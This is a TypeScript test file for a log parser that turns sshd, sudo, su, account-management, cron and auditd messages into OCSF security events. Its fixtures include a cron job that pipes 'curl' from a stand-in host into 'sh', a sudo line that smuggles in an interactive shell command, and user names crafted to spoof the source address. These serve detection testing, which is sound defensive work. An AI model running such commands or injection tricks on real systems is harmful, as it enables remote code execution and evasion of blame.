import { describe, expect, it } from 'vitest'
import type { Event, JsonObject } from '../../../pipeline/index.ts'
import { createParser } from '../parser.ts'

const parser = createParser()

/** A message of `program` on `web1`, read as it comes from the wire. */
function read(program: string, text: string): Event {
  return parser.parse({
    offset: 0,
    receivedAt: Date.UTC(2026, 2, 1, 12),
    source: 'syslog/udp 192.0.2.7',
    format: 'syslog',
    headers: {},
    payload: Buffer.from(`<38>Mar  1 10:00:00 web1 ${program}: ${text}`),
  })
}

const ssh = (text: string) => read('sshd[812]', text)

describe('sshd', () => {
  it('tells a sign-in: who, from where, how', () => {
    const event = ssh(
      'Accepted publickey for root from 2001:db8::7 port 4022 ssh2: ED25519 SHA256:uNiVztksCsDhcc0u9e8BrJbAWnsQAGrm1cjR7nBZ7lQ',
    )
    expect(event.logsource).toEqual({ product: 'linux', service: 'sshd' })
    expect(event.original).toMatchObject({
      user: 'root',
      src_ip: '2001:db8::7',
      src_port: 4022,
      auth_method: 'publickey',
      key_fingerprint: 'SHA256:uNiVztksCsDhcc0u9e8BrJbAWnsQAGrm1cjR7nBZ7lQ',
    })
    expect(event.ocsf).toMatchObject({
      class_uid: 3002,
      activity_id: 1,
      status_id: 1,
      user: { name: 'root' },
      src_endpoint: { ip: '2001:db8::7', port: 4022 },
      dst_endpoint: { hostname: 'web1' },
      service: { name: 'sshd' },
      auth_protocol: 'SSH publickey',
      is_remote: true,
      device: { hostname: 'web1' },
    })
    expect(event.ocsf.observables).toContainEqual({
      name: 'src_endpoint.ip',
      type: 'IP Address',
      type_id: 2,
      value: '2001:db8::7',
    })
    expect(event.ocsf.observables).toContainEqual({ name: 'user.name', type: 'User Name', type_id: 4, value: 'root' })
  })

  it.each<[string, string, JsonObject, JsonObject]>([
    [
      'a refused password',
      'Failed password for root from 192.0.2.5 port 22 ssh2',
      { user: 'root' },
      { class_uid: 3002, status_id: 2, status_detail: 'Failed password' },
    ],
    [
      'a refused password of nobody',
      'Failed password for invalid user admin from 192.0.2.5 port 22 ssh2',
      { user: 'admin' },
      { status_id: 2, status_detail: 'Failed password, invalid user' },
    ],
    [
      'no such user',
      'Invalid user admin from 192.0.2.5 port 22',
      { user: 'admin' },
      { status_id: 2, status_detail: 'Invalid user' },
    ],
    [
      'no such user, as before OpenSSH 7',
      'Invalid user admin from 192.0.2.5',
      { user: 'admin', src_ip: '192.0.2.5' },
      { status_id: 2 },
    ],
    [
      'an empty name',
      'Invalid user  from 192.0.2.5 port 22',
      { src_ip: '192.0.2.5' },
      { status_id: 2, user: { name: 'unknown' } },
    ],
    [
      'too many attempts',
      'error: maximum authentication attempts exceeded for invalid user x from 192.0.2.5 port 22 ssh2 [preauth]',
      { user: 'x', src_ip: '192.0.2.5' },
      { status_id: 2 },
    ],
    [
      'a user who may not',
      'User bob from host.example.org not allowed because not listed in AllowUsers',
      { user: 'bob', src_ip: 'host.example.org' },
      { status_id: 2, src_endpoint: { hostname: 'host.example.org' } },
    ],
    [
      'a closed connection',
      'Connection closed by 192.0.2.5 port 22 [preauth]',
      { src_ip: '192.0.2.5' },
      { class_uid: 4007, activity_id: 2 },
    ],
    [
      'a closed connection of a user',
      'Connection closed by authenticating user root 192.0.2.5 port 22 [preauth]',
      { user: 'root', src_ip: '192.0.2.5' },
      { class_uid: 4007 },
    ],
    [
      'a disconnect',
      'Received disconnect from 192.0.2.5 port 22:11: Bye Bye [preauth]',
      { src_ip: '192.0.2.5', src_port: 22 },
      { class_uid: 4007 },
    ],
    [
      'a connection',
      'Connection from 192.0.2.5 port 4022 on 10.0.0.1 port 22 rdomain ""',
      { src_ip: '192.0.2.5', src_port: 4022 },
      { class_uid: 4007, activity_id: 1 },
    ],
    [
      'a PAM failure',
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.5  user=root',
      { user: 'root', src_ip: '192.0.2.5' },
      { class_uid: 3002, activity_id: 1, status_id: 2 },
    ],
    [
      'more PAM failures',
      'PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.5  user=root',
      {
        message: 'PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.5  user=root',
      },
      { class_uid: 3002, count: 2 },
    ],
    [
      'a session',
      'pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)',
      { user: 'deploy' },
      {
        class_uid: 3002,
        activity_id: 1,
        status_id: 1,
        user: { name: 'deploy', uid: '1000' },
        actor: { user: { uid: '0' } },
      },
    ],
    [
      'a folded repeat',
      'message repeated 3 times: [ Failed password for root from 192.0.2.5 port 22 ssh2]',
      { user: 'root' },
      { class_uid: 3002, count: 3 },
    ],
    [
      'words it does not know',
      'Server listening on 0.0.0.0 port 22.',
      { message: 'Server listening on 0.0.0.0 port 22.' },
      { class_uid: 0 },
    ],
  ])('knows %s', (_, text, original, ocsf) => {
    const event = ssh(text)
    expect(event.original).toMatchObject(original)
    expect(event.ocsf).toMatchObject(ocsf)
    expect(event.original.message).toBe(text)
  })

  // The client chooses the name: it must not choose the address that is blamed or blocked.
  it.each([
    [
      'Failed password for invalid user a from 10.9.9.9 port 1 ssh2 from 192.0.2.5 port 22 ssh2',
      'a from 10.9.9.9 port 1 ssh2',
    ],
    ['Invalid user x from 10.9.9.9 port 1 from 192.0.2.5 port 22', 'x from 10.9.9.9 port 1'],
    ['Invalid user  from 10.9.9.9 port 1 from 192.0.2.5 port 22', ' from 10.9.9.9 port 1'],
    ['Disconnected from invalid user u 10.9.9.9 port 1 192.0.2.5 port 22 [preauth]', 'u 10.9.9.9 port 1'],
    [
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.5  user=x rhost=10.9.9.9',
      'x rhost=10.9.9.9',
    ],
    [
      'User x from 10.9.9.9 not allowed because y from 192.0.2.5 not allowed because not listed in AllowUsers',
      'x from 10.9.9.9 not allowed because y',
    ],
  ])('is not told another address by a user name: %s', (text, name) => {
    const event = ssh(text)
    expect(event.original.src_ip).toBe('192.0.2.5')
    expect(event.original.user).toBe(name)
    expect((event.ocsf.src_endpoint as JsonObject).ip).toBe('192.0.2.5')
  })

  it('is the same program under its newer name', () => {
    expect(read('sshd-session[9]', 'Failed password for root from 192.0.2.5 port 22 ssh2')).toMatchObject({
      logsource: { service: 'sshd' },
      ocsf: { class_uid: 3002 },
    })
  })
})

describe('sudo and su', () => {
  it('a command is a process that another user launches', () => {
    const event = read(
      'sudo',
      '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/useradd -m mallory',
    )
    expect(event.logsource).toEqual({ product: 'linux', service: 'sudo' })
    expect(event.original).toMatchObject({
      by: 'alice',
      USER: 'root',
      TTY: 'pts/0',
      PWD: '/home/alice',
      COMMAND: '/usr/sbin/useradd -m mallory',
    })
    expect(event.ocsf).toMatchObject({
      class_uid: 1007,
      activity_id: 1,
      status_id: 1,
      actor: { user: { name: 'alice' }, session: { terminal: 'pts/0' } },
      process: {
        pid: 0,
        name: 'useradd',
        cmd_line: '/usr/sbin/useradd -m mallory',
        user: { name: 'root' },
        working_directory: '/home/alice',
      },
      metadata: { labels: ['missing:process.pid'] },
    })
  })

  it('a refused command says why', () => {
    const event = read(
      'sudo[7]',
      ' bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
    )
    expect(event.ocsf).toMatchObject({
      class_uid: 1007,
      status_id: 2,
      status_detail: '3 incorrect password attempts',
      actor: { process: { pid: 7 } },
    })
  })

  it('a directory cannot hide the command', () => {
    const event = read(
      'sudo',
      'eve : TTY=pts/1 ; PWD=/tmp/x ; USER=nobody ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/sh -i',
    )
    expect(event.original.COMMAND).toContain('/bin/sh -i')
  })

  it('sessions and failures of sudo are account switches', () => {
    expect(
      read('sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)').ocsf,
    ).toMatchObject({
      class_uid: 3002,
      activity_id: 7,
      account_switch_type_id: 1,
      user: { name: 'root', uid: '0' },
      actor: { user: { name: 'alice', uid: '1000' } },
    })
  })

  it.each([
    ['Successful su for root by alice', 1],
    ['FAILED su for root by alice', 2],
    ['(to root) alice on pts/0', 1],
    ['FAILED SU (to root) alice on pts/0', 2],
  ])('su: %s', (text, status) => {
    expect(read('su[5]', text).ocsf).toMatchObject({
      class_uid: 3002,
      activity_id: 7,
      status_id: status,
      user: { name: 'root' },
      actor: { user: { name: 'alice' } },
    })
  })
})

describe('accounts and groups', () => {
  it.each<[string, string, JsonObject]>([
    [
      'useradd',
      'new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0',
      { class_uid: 3001, activity_id: 1, status_id: 1, user: { name: 'mallory', uid: '1001' } },
    ],
    [
      'useradd',
      "failed adding user 'mallory', exit code: 9",
      { class_uid: 3001, activity_id: 1, status_id: 2, user: { name: 'mallory' } },
    ],
    ['userdel', "delete user 'mallory'", { class_uid: 3001, activity_id: 6 }],
    ['usermod', "lock user 'mallory' password", { class_uid: 3001, activity_id: 9 }],
    [
      'usermod',
      "change user 'root' shell from '/bin/sh' to '/bin/bash'",
      { class_uid: 3001, activity_id: 99, activity_name: 'Change shell', user: { name: 'root' } },
    ],
    [
      'usermod',
      "add 'mallory' to group 'sudo'",
      { class_uid: 3006, activity_id: 3, user: { name: 'mallory' }, group: { name: 'sudo' } },
    ],
    ['usermod', "add 'mallory' to shadow group 'sudo'", { class_uid: 3006, activity_id: 3, group: { name: 'sudo' } }],
    [
      'gpasswd',
      'user bob removed by root from group sudo',
      {
        class_uid: 3006,
        activity_id: 4,
        user: { name: 'bob' },
        group: { name: 'sudo' },
        actor: { user: { name: 'root' } },
      },
    ],
    [
      'groupadd',
      'new group: name=ops, GID=1002',
      { class_uid: 3006, activity_id: 6, group: { name: 'ops', uid: '1002' } },
    ],
    ['groupdel', "group 'ops' removed", { class_uid: 3006, activity_id: 5, group: { name: 'ops' } }],
    [
      'passwd',
      'pam_unix(passwd:chauthtok): password changed for bob',
      { class_uid: 3001, activity_id: 3, user: { name: 'bob' } },
    ],
    [
      'passwd',
      "password for 'bob' changed by 'root'",
      { class_uid: 3001, activity_id: 3, actor: { user: { name: 'root' } } },
    ],
    ['useradd', 'something else', { class_uid: 0 }],
  ])('%s: %s', (program, text, ocsf) => {
    const event = read(`${program}[99]`, text)
    expect(event.logsource).toEqual({ product: 'linux', service: 'auth' })
    expect(event.ocsf).toMatchObject(ocsf)
  })
})

describe('cron', () => {
  it.each<[string, string, JsonObject, JsonObject]>([
    [
      'CRON',
      '(root) CMD (curl -fsS http://198.51.100.23/u | sh)',
      { user: 'root', command: 'curl -fsS http://198.51.100.23/u | sh' },
      { activity_id: 6, job: { cmd_line: 'curl -fsS http://198.51.100.23/u | sh', user: { name: 'root' } } },
    ],
    ['CRON', '(bob) CMD (echo (a) ) x ()', { user: 'bob', command: 'echo (a) ) x (' }, { activity_id: 6 }],
    [
      'crontab',
      '(root) REPLACE (mallory)',
      { user: 'root', cron_action: 'REPLACE', crontab: 'mallory' },
      {
        activity_id: 2,
        job: { name: 'crontab mallory', user: { name: 'mallory' } },
        actor: { user: { name: 'root' } },
      },
    ],
    [
      'crontab',
      '(root) BEGIN EDIT (root)',
      { cron_action: 'BEGIN EDIT' },
      { activity_id: 99, activity_name: 'BEGIN EDIT' },
    ],
    ['crontab', '(root) DELETE (root)', { cron_action: 'DELETE' }, { activity_id: 3 }],
    [
      'cron',
      '(*system*) RELOAD (/etc/cron.d/backup)',
      { cron_action: 'RELOAD' },
      { activity_id: 2, job: { file: { path: '/etc/cron.d/backup' } } },
    ],
  ])('%s: %s', (program, text, original, ocsf) => {
    const event = read(`${program}[99]`, text)
    expect(event.logsource).toEqual({ product: 'linux', service: 'cron' })
    expect(event.original).toMatchObject(original)
    expect(event.ocsf).toMatchObject({ class_uid: 1006, ...ocsf })
  })
})

describe('other programs', () => {
  it.each([
    ['vsftpd', 'vsftpd'],
    ['named', 'auth'], // by its facility here
    ['clamd', 'clamav'],
    ['/usr/sbin/cron', 'cron'],
  ])('%s writes to the log that Sigma calls %s', (program, service) => {
    expect(read(program, 'x').logsource).toEqual({ product: 'linux', service })
  })

  it('are named by the sender’s address where the header names no host', () => {
    const event = parser.parse({
      offset: 0,
      receivedAt: 0,
      source: 'syslog/udp 192.0.2.7',
      format: 'syslog',
      headers: {},
      payload: Buffer.from('<13>hello'),
    })
    expect(event.ocsf.device).toEqual({ type_id: 0, ip: '192.0.2.7' })
  })
})

describe('the audit system', () => {
  const readLine = (line: string) =>
    parser.parse({
      ...{ offset: 0, receivedAt: Date.UTC(2026, 2, 1, 12), source: 'x', format: 'text', headers: {} },
      payload: Buffer.from(line),
    })

  it('tells a command with its arguments, whatever they hold', () => {
    const event = readLine(
      'node=web1 type=EXECVE msg=audit(1772359200.123:42): argc=4 a0="wget" a1="-O" a2=2F746D702F6120622063 a3="http://x/"',
    )
    expect(event).toMatchObject({
      time: 1_772_359_200_123,
      logsource: { product: 'linux', service: 'auditd' },
      original: { type: 'EXECVE', node: 'web1', argc: '4', a0: 'wget', a2: '/tmp/a b c', a3: 'http://x/' },
      ocsf: {
        ...{ class_uid: 1007, activity_id: 1, device: { hostname: 'web1' } },
        process: { name: 'wget', cmd_line: 'wget -O /tmp/a b c http://x/' },
      },
    })
  })

  it('has numbers of a call as they are, and what the daemon reads in them', () => {
    const event = readLine(
      'type=SYSCALL msg=audit(1772359200.123:43): arch=c000003e syscall=135 success=yes a0=40000 comm="x" exe=2F7573722F62696E2F61206200 key=(null)\x1dARCH=x86_64 SYSCALL=personality AUID="eve"',
    )
    expect(event.original).toMatchObject({ a0: '40000', exe: '/usr/bin/a b ', SYSCALL: 'personality', AUID: 'eve' })
    expect(event.original).not.toHaveProperty('key')
  })

  it('has what programs say in it, and comes through syslog, too', () => {
    const text =
      'type=USER_AUTH msg=audit(1772359200.123:44): pid=9 uid=0 msg=\'op=PAM:authentication acct="root" exe="/usr/sbin/sshd" addr=192.0.2.1 type=FAKE res=failed\''
    const wanted = { type: 'USER_AUTH', acct: 'root', exe: '/usr/sbin/sshd', addr: '192.0.2.1', res: 'failed' }
    expect(readLine(text).original).toMatchObject(wanted)
    const event = read('audispd', text)
    expect(event.original).toMatchObject({ ...wanted, hostname: 'web1' })
    expect(event.logsource.service).toBe('auditd')
  })

  it('is none where the front is not whole', () => {
    expect(readLine('type=EXECVE argc=1').logsource).toEqual({})
    expect(readLine(`type=X msg=audit(1.1:1): ${'a=1 '.repeat(2000)}`).parseError).toContain('audit.tooManyMembers')
  })
})
